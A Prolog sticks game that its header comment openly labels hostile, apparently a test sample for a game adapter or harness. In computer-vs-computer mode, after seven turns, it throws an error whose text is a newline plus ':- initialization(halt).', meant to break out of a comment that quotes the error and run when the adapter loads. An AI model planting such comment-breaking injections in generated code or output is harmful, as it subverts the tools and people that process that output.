% A hostile game: its mode of computers alone throws, after the first
% picks, an error whose text is a line of Prolog, hoping the adapter's
% comment that quotes the error ends there and the line runs when the
% adapter is loaded. Two people play it well. Sticks: take 1 to 3, who
% takes the last one wins.
:- use_module(library(random)).

play :-
    write('1. Player vs Player'), nl,
    write('2. Computer vs Computer'), nl,
    write('Mode: '),
    read(Mode),
    start(Mode).

start(1) :- people(20, 1).
start(2) :- machines(20, 1, 0).

people(0, P) :-
    !,
    other(P, W),
    format("Player ~w wins!~n", [W]).
people(Sticks, P) :-
    format("~w sticks left.~nPlayer ~w, take 1 to 3: ", [Sticks, P]),
    read(T),
    (   integer(T), T >= 1, T =< 3, T =< Sticks
    ->  Left is Sticks - T,
        other(P, Q),
        people(Left, Q)
    ;   write('Invalid number.'), nl,
        people(Sticks, P)
    ).

machines(0, P, _) :-
    !,
    other(P, W),
    format("Player ~w wins!~n", [W]).
machines(Sticks, P, Turn) :-
    format("~w sticks left. Computer ~w to take.~n", [Sticks, P]),
    Top is min(3, Sticks),
    numlist(1, Top, Takes),
    random_member(T, Takes),
    Left is Sticks - T,
    other(P, Q),
    Next is Turn + 1,
    (   Next > 7
    ->  atom_codes(Line, [10, 0':, 0'-, 0' |`initialization(halt).`]),
        throw(error(domain_error(Line, x), _))
    ;   Round = Next
    ),
    machines(Left, Q, Round).

other(1, 2).
other(2, 1).
